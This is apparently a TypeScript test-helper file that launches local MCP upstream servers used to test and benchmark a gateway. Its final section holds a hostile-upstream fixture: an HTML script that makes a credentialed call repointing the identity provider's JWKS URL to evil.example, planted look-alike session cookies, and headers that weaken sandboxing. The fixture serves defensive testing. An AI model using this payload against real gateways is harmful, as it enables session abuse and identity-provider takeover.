// Real MCP upstreams for integration tests and benchmarks, all on 127.0.0.1 with a free port:
//  - startMcpServer: the official SDK's McpServer + StreamableHTTPServerTransport (stateful
//    sessions, SSE responses) on a plain node:http server, with echo/add/whoami/stream tools.
//  - startMinimalJsonRpcUpstream: a bare responder for proxy-overhead benchmarks.
//  - startSseUpstream: streams timestamped SSE events (first-event / per-event delay measurements).
import { randomUUID } from "node:crypto";
import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from "node:http";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StreamableHTTPServerTransport } from "@modelcontextprotocol/sdk/server/streamableHttp.js";
import { isInitializeRequest } from "@modelcontextprotocol/sdk/types.js";
import * as z from "zod";
import { closeHttpServer, closeOnce, listenLoopback } from "./cleanup";

export interface SeenRequest {
  method: string;
  /** Path + query as received. */
  url: string;
  headers: IncomingHttpHeaders;
  at: number;
}

export interface StartMcpServerOptions {
  /** MCP endpoint path (default /mcp). */
  path?: string;
  /**
   * Make the upstream do its own auth (for `auth: passthrough` tests): a required exact
   * Authorization header value, or a predicate. Failing requests get 401 + WWW-Authenticate.
   */
  requireAuthHeader?: string | ((authorization: string | undefined) => boolean);
  /** WWW-Authenticate on the upstream's own 401 (default Bearer resource_metadata=<own PRM URL>). */
  wwwAuthenticate?: string;
  /** Extra JSON documents served on GET (path -> body), e.g. the upstream's own PRM document. */
  documents?: Record<string, unknown>;
  /** Server name reported in initialize (default "portcullis-test-upstream"). */
  name?: string;
}

export interface McpTestServer {
  /** Full MCP endpoint URL, e.g. http://127.0.0.1:PORT/mcp */
  url: string;
  origin: string;
  port: number;
  path: string;
  /** Every HTTP request received, in order (method, url, headers). */
  requests: SeenRequest[];
  /** Headers of the most recent request to the MCP endpoint. */
  lastHeaders(): IncomingHttpHeaders | undefined;
  /** Open MCP sessions. */
  sessions(): string[];
  close(): Promise<void>;
}

async function readJson(req: IncomingMessage): Promise<{ ok: true; value: unknown } | { ok: false }> {
  const chunks: Buffer[] = [];
  for await (const c of req) chunks.push(c as Buffer);
  const text = Buffer.concat(chunks).toString("utf8");
  if (!text) return { ok: true, value: undefined };
  try {
    return { ok: true, value: JSON.parse(text) };
  } catch {
    return { ok: false };
  }
}

function jsonRpcError(res: ServerResponse, status: number, code: number, message: string): void {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify({ jsonrpc: "2.0", error: { code, message }, id: null }));
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function buildMcpServer(name: string): McpServer {
  const server = new McpServer({ name, version: "1.0.0" }, { capabilities: { logging: {} } });
  server.registerTool(
    "echo",
    { description: "Echo the given text", inputSchema: { text: z.string() } },
    async ({ text }) => ({ content: [{ type: "text", text }] }),
  );
  server.registerTool(
    "add",
    { description: "Add two numbers", inputSchema: { a: z.number(), b: z.number() } },
    async ({ a, b }) => ({ content: [{ type: "text", text: String(a + b) }], structuredContent: { sum: a + b } }),
  );
  server.registerTool(
    "whoami",
    { description: "Return the HTTP request headers this upstream received for this call" },
    async (extra) => {
      const headers = (extra.requestInfo?.headers ?? {}) as Record<string, unknown>;
      return { content: [{ type: "text", text: JSON.stringify(headers) }], structuredContent: { headers } };
    },
  );
  server.registerTool(
    "stream",
    {
      description: "Send `count` progress + log notifications `intervalMs` apart, then return",
      inputSchema: { count: z.number().int().min(0).max(10_000), intervalMs: z.number().int().min(0).max(60_000) },
    },
    async ({ count, intervalMs }, extra) => {
      const progressToken = extra._meta?.progressToken;
      for (let i = 0; i < count; i++) {
        if (i > 0 && intervalMs > 0) await sleep(intervalMs);
        if (extra.signal.aborted) break;
        const sentAt = Date.now();
        if (progressToken !== undefined) {
          await extra.sendNotification({
            method: "notifications/progress",
            params: { progressToken, progress: i + 1, total: count, message: `tick ${i + 1}` },
          });
        }
        await extra.sendNotification({
          method: "notifications/message",
          params: { level: "info", logger: "stream", data: { i: i + 1, of: count, sentAt } },
        });
      }
      return {
        content: [{ type: "text", text: `streamed ${count}` }],
        structuredContent: { count, finishedAt: Date.now() },
      };
    },
  );
  return server;
}

export async function startMcpServer(opts: StartMcpServerOptions = {}): Promise<McpTestServer> {
  const path = opts.path ?? "/mcp";
  const requests: SeenRequest[] = [];
  const sessions = new Map<string, { transport: StreamableHTTPServerTransport; server: McpServer }>();
  let last: IncomingHttpHeaders | undefined;
  let origin = "";

  const authorized = (h: string | undefined) => {
    const r = opts.requireAuthHeader;
    if (r === undefined) return true;
    return typeof r === "string" ? h === r : r(h);
  };

  const http = createServer(async (req, res) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    requests.push({ method: req.method ?? "GET", url: req.url ?? "/", headers: { ...req.headers }, at: Date.now() });
    try {
      if (
        req.method === "GET" &&
        opts.documents &&
        Object.prototype.hasOwnProperty.call(opts.documents, url.pathname)
      ) {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify(opts.documents[url.pathname]));
        return;
      }
      if (url.pathname !== path) {
        res.writeHead(404, { "content-type": "application/json" });
        res.end(JSON.stringify({ error: "not_found" }));
        return;
      }
      last = { ...req.headers };
      if (!authorized(req.headers.authorization)) {
        const challenge =
          opts.wwwAuthenticate ??
          `Bearer resource_metadata="${new URL(`/.well-known/oauth-protected-resource${path}`, origin).href}"`;
        res.writeHead(401, { "content-type": "application/json", "www-authenticate": challenge });
        res.end(JSON.stringify({ error: "invalid_token", error_description: "upstream requires authorization" }));
        return;
      }
      const sid = req.headers["mcp-session-id"];
      const sessionId = Array.isArray(sid) ? sid[0] : sid;
      if (req.method === "POST") {
        const body = await readJson(req);
        if (!body.ok) return jsonRpcError(res, 400, -32700, "Parse error");
        if (sessionId) {
          const s = sessions.get(sessionId);
          if (!s) return jsonRpcError(res, 404, -32001, "Session not found");
          await s.transport.handleRequest(req, res, body.value);
          return;
        }
        if (!isInitializeRequest(body.value)) return jsonRpcError(res, 400, -32000, "Bad Request: no session id");
        const server = buildMcpServer(opts.name ?? "portcullis-test-upstream");
        const transport: StreamableHTTPServerTransport = new StreamableHTTPServerTransport({
          sessionIdGenerator: () => randomUUID(),
          onsessioninitialized: (id) => {
            sessions.set(id, { transport, server });
          },
          onsessionclosed: (id) => {
            sessions.delete(id);
          },
        });
        transport.onclose = () => {
          if (transport.sessionId) sessions.delete(transport.sessionId);
        };
        await server.connect(transport);
        await transport.handleRequest(req, res, body.value);
        return;
      }
      if (req.method === "GET" || req.method === "DELETE") {
        const s = sessionId ? sessions.get(sessionId) : undefined;
        if (!s) return jsonRpcError(res, sessionId ? 404 : 400, -32000, "Invalid or missing session id");
        await s.transport.handleRequest(req, res);
        return;
      }
      res.writeHead(405, { allow: "GET, POST, DELETE" });
      res.end();
    } catch (err) {
      if (!res.headersSent) jsonRpcError(res, 500, -32603, String((err as Error)?.message ?? err));
      else res.destroy();
    }
  });
  const port = await listenLoopback(http);
  origin = `http://127.0.0.1:${port}`;
  const close = closeOnce(`mcp-server(${port})`, async () => {
    for (const { transport, server } of sessions.values()) {
      await transport.close().catch(() => undefined);
      await server.close().catch(() => undefined);
    }
    sessions.clear();
    await closeHttpServer(http);
  });
  return {
    url: new URL(path, origin).href,
    origin,
    port,
    path,
    requests,
    lastHeaders: () => last,
    sessions: () => [...sessions.keys()],
    close,
  };
}

// ---------------------------------------------------------------------------------------------

export interface MinimalUpstream {
  url: string;
  port: number;
  /** Number of requests answered. */
  readonly count: number;
  /** Headers of the last request (for header-hygiene checks in benchmarks). */
  lastHeaders(): IncomingHttpHeaders | undefined;
  close(): Promise<void>;
}

/**
 * A bare node:http responder: any POST gets a fixed small JSON-RPC `tools/call` result with the
 * request's id (no SDK, no sessions) so benchmarks measure the proxy, not the upstream.
 */
export async function startMinimalJsonRpcUpstream(opts: { path?: string } = {}): Promise<MinimalUpstream> {
  const path = opts.path ?? "/mcp";
  let count = 0;
  let last: IncomingHttpHeaders | undefined;
  const http = createServer((req, res) => {
    count++;
    last = req.headers;
    if (req.method !== "POST") {
      res.writeHead(405, { allow: "POST", "content-length": "0" });
      res.end();
      return;
    }
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      let id: unknown = null;
      try {
        id = JSON.parse(Buffer.concat(chunks).toString("utf8"))?.id ?? null;
      } catch {
        /* keep null */
      }
      const body = JSON.stringify({
        jsonrpc: "2.0",
        id,
        result: { content: [{ type: "text", text: "ok" }], isError: false },
      });
      res.writeHead(200, { "content-type": "application/json", "content-length": Buffer.byteLength(body) });
      res.end(body);
    });
  });
  http.keepAliveTimeout = 60_000;
  const port = await listenLoopback(http);
  const close = closeOnce(`minimal-upstream(${port})`, async () => {
    await closeHttpServer(http);
  });
  return {
    url: `http://127.0.0.1:${port}${path}`,
    port,
    get count() {
      return count;
    },
    lastHeaders: () => last,
    close,
  };
}

/** Milliseconds since the epoch with sub-millisecond precision (comparable across processes). */
export const preciseNow = (): number => performance.timeOrigin + performance.now();

export interface SseUpstream {
  url: string;
  port: number;
  /** Number of streams served. */
  readonly streams: number;
  close(): Promise<void>;
}

/**
 * Streams `count` SSE events `intervalMs` apart, then ends the response. Each event's data is
 * JSON `{ i, t }` where `t` is preciseNow() when written. GET or POST; `?count=&intervalMs=`
 * override the defaults per request. The first event is written immediately after the headers.
 */
export async function startSseUpstream(
  opts: { count?: number; intervalMs?: number; path?: string } = {},
): Promise<SseUpstream> {
  const path = opts.path ?? "/sse";
  let streams = 0;
  const timers = new Set<NodeJS.Timeout>();
  const http = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    if (url.pathname !== path) {
      res.writeHead(404);
      res.end();
      return;
    }
    req.resume();
    streams++;
    const count = Number(url.searchParams.get("count") ?? opts.count ?? 10);
    const interval = Number(url.searchParams.get("intervalMs") ?? opts.intervalMs ?? 10);
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache", connection: "keep-alive" });
    res.flushHeaders();
    let i = 0;
    const send = () => {
      if (res.destroyed) return;
      i++;
      res.write(`id: ${i}\nevent: message\ndata: ${JSON.stringify({ i, t: preciseNow() })}\n\n`);
      if (i >= count) {
        res.end();
        return;
      }
      const t = setTimeout(() => {
        timers.delete(t);
        send();
      }, interval);
      timers.add(t);
    };
    if (count > 0) send();
    else res.end();
  });
  const port = await listenLoopback(http);
  const close = closeOnce(`sse-upstream(${port})`, async () => {
    for (const t of timers) clearTimeout(t);
    timers.clear();
    await closeHttpServer(http);
  });
  return {
    url: `http://127.0.0.1:${port}${path}`,
    port,
    get streams() {
      return streams;
    },
    close,
  };
}

// ---------------------------------------------------------------------------------------------

export interface HostileResponse {
  status: number;
  headers: Record<string, string | string[]>;
  body: string;
}

/**
 * What a hostile upstream answers by default: an HTML page whose script would act with the console's
 * session if it ran on the gateway's origin, cookies named like the gateway's (every spelling the
 * browser would send back as one), one cookie of its own, and headers that try to undo the sandbox.
 */
export const HOSTILE_PAGE: HostileResponse = {
  status: 200,
  headers: {
    "content-type": "text/html; charset=utf-8",
    "content-security-policy": "script-src 'unsafe-inline'",
    "x-content-type-options": "none",
    "clear-site-data": '"cookies", "storage"',
    nel: '{"report_to":"collector","max_age":31536000,"include_subdomains":true,"success_fraction":1}',
    "report-to": '{"group":"collector","max_age":31536000,"endpoints":[{"url":"https://collector.example/r"}]}',
    "set-cookie": [
      "portcullis_session=planted; Path=/; HttpOnly",
      "__Host-portcullis_oauth_browser=planted; Path=/; Secure",
      "__Secure-portcullis_session=planted; Path=/; Secure",
      "Portcullis_Session=planted; Path=/",
      "=portcullis_session=planted; Path=/",
      "portcullis_session=; Max-Age=0; Path=/",
      "upstream_affinity=node-2; Path=/; HttpOnly",
    ],
  },
  body: `<!doctype html><script>fetch("/api/providers/idp/patch",{method:"POST",credentials:"include",body:'{"set":{"jwksUrl":"https://evil.example/jwks"}}'})</script>`,
};

export interface HostileUpstream {
  /** http://127.0.0.1:PORT/mcp */
  url: string;
  port: number;
  requests: SeenRequest[];
  /** What every following request gets (default HOSTILE_PAGE). */
  respondWith(r: HostileResponse): void;
  close(): Promise<void>;
}

/** An upstream that answers every request, any method and path, with what the test sets (see HOSTILE_PAGE). */
export async function startHostileUpstream(): Promise<HostileUpstream> {
  const requests: SeenRequest[] = [];
  let response = HOSTILE_PAGE;
  const http = createServer((req, res) => {
    requests.push({ method: req.method ?? "GET", url: req.url ?? "/", headers: { ...req.headers }, at: Date.now() });
    req.resume();
    req.on("end", () => {
      res.writeHead(response.status, { ...response.headers, "content-length": Buffer.byteLength(response.body) });
      res.end(response.body);
    });
  });
  const port = await listenLoopback(http);
  const close = closeOnce(`hostile-upstream(${port})`, async () => {
    await closeHttpServer(http);
  });
  return {
    url: `http://127.0.0.1:${port}/mcp`,
    port,
    requests,
    respondWith: (r) => (response = r),
    close,
  };
}

/**
 * Answers any request after `?delay=` milliseconds (default 0) with a small JSON-RPC body naming the
 * delay: in-flight work of a known length (draining tests).
 */
export async function startDelayedUpstream(): Promise<{ url: string; close(): Promise<void> }> {
  const http = createServer((req, res) => {
    req.resume();
    const delay = Number(new URL(req.url ?? "/", "http://x").searchParams.get("delay") ?? 0);
    setTimeout(() => {
      const body = JSON.stringify({ jsonrpc: "2.0", id: 1, result: { delayed: delay } });
      res.writeHead(200, { "content-type": "application/json", "content-length": Buffer.byteLength(body) });
      res.end(body);
    }, delay);
  });
  http.keepAliveTimeout = 60_000;
  const port = await listenLoopback(http);
  const close = closeOnce(`delayed-upstream(${port})`, async () => {
    await closeHttpServer(http);
  });
  return { url: `http://127.0.0.1:${port}/mcp`, close };
}
